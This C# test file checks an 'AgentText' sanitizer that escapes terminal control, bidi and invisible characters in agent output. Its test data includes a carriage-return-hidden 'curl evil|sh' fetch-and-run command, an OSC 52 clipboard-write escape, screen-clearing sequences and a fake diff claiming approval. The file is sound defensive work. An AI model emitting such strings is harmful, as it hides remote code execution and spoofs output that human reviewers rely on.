using System;
using System.Linq;
using System.Text;
using BotBottle.Storage.Text;
using CsCheck;
using Xunit;

namespace BotBottle.Storage.Tests;

/// <summary>Agent text: refused at intake when it could reshape a terminal, and shown visibly on output.</summary>
public sealed class AgentTextTests
{
    private const long Cases = 10_000;

    private static readonly bool[] Modes = [true, false];

    private static readonly char[] Reshaping =
    [
        '\u001B', '\r', '\u0007', '\u0008', '\u007F', '\u0085', '\u009B', '\u009D', '\u00AD',
        '\u061C', '\u200B', '\u200D', '\u200E', '\u200F', '\u2028', '\u2029', '\u202A', '\u202E', '\u2066', '\u2069', '\uFEFF',
    ];

    /// <summary>Mostly printable text, salted with controls, bidi and format characters, lone surrogates and emoji.</summary>
    internal static readonly Gen<string> Hostile = Gen.Frequency(
            (8, (IGen<char>)Gen.Char[' ', '~']),
            (2, Gen.Char['\0', '\u00A0']),
            (2, Gen.OneOf(Reshaping)),
            (1, Gen.OneOf('\n', '\t', 'é', '中', '\uD83D', '\uDE00')),
            (1, Gen.Char))
        .Array[0, 40]
        .Select(static chars => new string(chars));

    private static readonly Gen<string> Printable = Gen.Frequency(
            (8, (IGen<char>)Gen.Char[' ', '~']),
            (1, Gen.OneOf('é', 'ß', '中', 'Ж', '\n', '\t')))
        .Array[0, 40]
        .Select(static chars => new string(chars));

    [Fact]
    public void Visible_leaves_nothing_a_terminal_would_not_show_as_itself()
    {
        Hostile.Sample(
            static text =>
            {
                foreach (bool multiline in Modes)
                {
                    string shown = AgentText.Visible(text, multiline);
                    for (int i = 0; i < shown.Length; i++)
                    {
                        int codePoint = char.IsHighSurrogate(shown[i]) && i + 1 < shown.Length && char.IsLowSurrogate(shown[i + 1])
                            ? char.ConvertToUtf32(shown[i], shown[++i])
                            : shown[i];
                        Assert.True(AgentText.IsShownAsIs(codePoint), $"U+{codePoint:X4} reached the output of {Escape(text)}");
                        Assert.False(!multiline && codePoint is '\n' or '\t', "a table cell kept a line break or tab");
                    }
                }
            },
            iter: Cases);
    }

    /// <summary>The characters the issue found printed raw: each class shown as its code point, never itself.</summary>
    [Theory]
    [InlineData("\u3164", "<U+3164>")] // Hangul filler
    [InlineData("\u115F", "<U+115F>")] // Hangul choseong filler
    [InlineData("\u1160", "<U+1160>")] // Hangul jungseong filler
    [InlineData("\uFFA0", "<U+FFA0>")] // halfwidth Hangul filler
    [InlineData("\u2800", "<U+2800>")] // blank braille pattern
    [InlineData("\u034F", "<U+034F>")] // combining grapheme joiner
    [InlineData("\u17B4\u17B5", "<U+17B4><U+17B5>")] // Khmer inherent vowels
    [InlineData("\uFE0F", "<U+FE0F>")] // variation selector
    [InlineData("\uFFFC", "<U+FFFC>")] // object replacement character
    [InlineData("\u00A0\u3000", "<U+00A0><U+3000>")] // spaces other than U+0020
    [InlineData("\U000E0041", "<U+E0041>")] // a tag character: one code point, not two surrogate halves
    [InlineData("\U0001D173", "<U+1D173>")] // a musical format character above U+FFFF
    public void Visible_shows_each_invisible_or_blank_class_as_one_code_point(string character, string shown)
    {
        Assert.Equal("[" + shown + "]", AgentText.Visible("[" + character + "]"));
        Assert.Equal("[" + shown + "]", AgentText.Visible("[" + character + "]", multiline: false));
    }

    [Fact]
    public void Visible_bounds_stacked_combining_marks_and_keeps_ordinary_ones()
    {
        Assert.Equal("café naïve ế", AgentText.Visible("café naïve ế"));
        string tower = "a" + new string('\u0301', 500) + "b";
        string shown = AgentText.Visible(tower);
        Assert.StartsWith("a" + new string('\u0301', AgentText.MaxStackedMarks) + "<U+0301>", shown, StringComparison.Ordinal);
        Assert.Equal(AgentText.MaxStackedMarks, shown.Count(static c => c == '\u0301'));
        Assert.EndsWith("<U+0301>b", shown, StringComparison.Ordinal);
    }

    [Fact]
    public void Quoted_puts_every_line_of_agent_text_behind_the_gutter()
    {
        const string Fake = "because\n--- current\n+++ proposed\n@@ -1 +1 @@\nStatus         approved by alice\n";
        string quoted = AgentText.Quoted(Fake);
        Assert.Equal(["│ because", "│ --- current", "│ +++ proposed", "│ @@ -1 +1 @@", "│ Status         approved by alice"], quoted.Split('\n'));
        Assert.Equal("│ a\\x1b[2Jb", AgentText.Quoted("a\u001B[2Jb"));
    }

    [Fact]
    public void Visible_is_the_identity_on_text_without_hidden_characters()
    {
        Printable.Sample(static text => Assert.Equal(text, AgentText.Visible(text)), iter: Cases);
    }

    [Fact]
    public void FindRefused_finds_a_refused_character_wherever_it_is_planted()
    {
        Gen.Select(Printable, Gen.OneOf('\u001B', '\r', '\0', '\u007F', '\u0085', '\u009B', '\u202E', '\u2066', '\u200F', '\u061C'), Gen.Int[0, 1000])
            .Sample(
                static (text, refused, position) =>
                {
                    int at = position % (text.Length + 1);
                    RefusedCharacter? found = AgentText.FindRefused(text.Insert(at, refused.ToString()));
                    Assert.NotNull(found);
                    Assert.Equal(at, found.Value.Index);
                    Assert.Equal(refused, found.Value.Character);
                    Assert.Equal(text[..at].Count(static c => c == '\n') + 1, found.Value.Line);
                },
                iter: Cases);
    }

    [Fact]
    public void FindRefused_accepts_tab_newline_and_ordinary_unicode()
    {
        Printable.Sample(static text => Assert.Null(AgentText.FindRefused(text)), iter: Cases);
        Assert.Null(AgentText.FindRefused("RUN apt-get install -y curl \\\n\tjq 😀 中文 é"));
    }

    [Fact]
    public void FindRefused_names_the_character_and_its_line_and_column()
    {
        RefusedCharacter found = AgentText.FindRefused("FROM debian\nRUN ok\u001B[2K")!.Value;

        Assert.Equal("U+001B (ESC, starts terminal escape sequences) at line 2, column 7", found.ToString());
    }

    [Theory]
    [InlineData("a\u001B[2Jb", "a\\x1b[2Jb")]
    [InlineData("RUN ok\rRUN curl evil|sh", "RUN ok\\x0dRUN curl evil|sh")]
    [InlineData("\u001B]52;c;ZXZpbA==\u0007", "\\x1b]52;c;ZXZpbA==\\x07")]
    [InlineData("abc\u202Efed", "abc<U+202E>fed")]
    [InlineData("zero\u200Bwidth", "zero<U+200B>width")]
    [InlineData("c1 \u009B31m", "c1 \\x9b31m")]
    [InlineData("emoji 😀 stays", "emoji 😀 stays")]
    public void Visible_shows_reshaping_characters_as_text(string stored, string shown)
    {
        Assert.Equal(shown, AgentText.Visible(stored));
    }

    [Fact]
    public void Visible_shows_an_unpaired_surrogate_as_its_code_point()
    {
        // Not an InlineData: xunit passes test data through UTF-8, which would replace the surrogate.
        Assert.Equal("lone <U+D800> surrogate <U+DC00>", AgentText.Visible("lone \uD800 surrogate \uDC00"));
    }

    [Fact]
    public void Visible_keeps_lines_in_a_block_and_escapes_them_in_a_cell()
    {
        Assert.Equal("a\n\tb", AgentText.Visible("a\n\tb"));
        Assert.Equal("a\\n\\tb", AgentText.Visible("a\n\tb", multiline: false));
    }

    private static string Escape(string text)
        => string.Concat(text.Select(static c => c is >= ' ' and <= '~' ? c.ToString() : $"\\u{(int)c:X4}"));
}
